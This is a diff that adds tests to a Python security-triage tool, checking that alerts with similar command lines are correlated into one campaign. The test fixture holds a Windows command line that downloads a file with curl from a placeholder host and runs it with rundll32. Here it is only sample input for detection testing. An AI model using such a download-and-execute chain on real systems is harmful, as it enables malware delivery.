@@ -13,6 +13,7 @@ from watchfloor.core.case import Case
 from watchfloor.core.context import Asset, Company, Context, Identity
 from watchfloor.core.finding import Finding, Severity
 from watchfloor.core.policy import CorrelationPolicy
+from watchfloor.core.similarity import signature
 from watchfloor.triage.correlation import correlate
 
 POLICY = CorrelationPolicy()
@@ -332,3 +333,34 @@ def test_a_process_in_two_findings_joins_them_and_many_processes_make_no_host_co
         for n in range(4)
     ]
     assert len(cases(busy)) == 1
+
+
+COMMAND = "cmd.exe /c ping -n {n} 203.0.113.{n} && curl -s http://{n}.example/a -o C:\\temp\\{n}.dat && rundll32 x,Run"
+
+
+def _ran(number: int, command: str, *entities: str) -> Finding:
+    signed = f"command:{signature(command)}"
+    return finding(number, *entities, minute=number, rule=f"r{number}").model_copy(update={"likeness": (signed,)})
+
+
+def test_command_lines_of_one_making_relate_and_say_how_alike_they_are() -> None:
+    one = _ran(1, COMMAND.format(n=1), "host:h1:target")
+    other = _ran(2, COMMAND.format(n=77), "host:h2:target")
+    unlike = _ran(
+        3, "powershell -file C:\\it\\inventory.ps1 -site berlin -report all -to share -as text", "host:h3:target"
+    )
+    first, second, third = cases([one, other, unlike])
+    (relation,) = first.relations
+    assert (relation.because, relation.case) == ("campaign", second.uid)
+    assert "Their command lines are of one making (" in relation.sentence
+    assert 0.6 < relation.strength < 1.0
+    assert third.related == ()
+
+
+def test_what_is_of_one_making_adds_to_what_is_shared() -> None:
+    shared = "domain:x.example:destination"
+    apart = cases([finding(1, "host:h1:target", shared), finding(2, "host:h2:target", shared, minute=2, rule="r2")])
+    assert len(apart) == 2
+    one, other = (_ran(n, COMMAND.format(n=n), f"host:h{n}:target", shared) for n in (1, 2))
+    (case,) = cases([one, other])
+    assert "of one making" in case.links[0].sentence
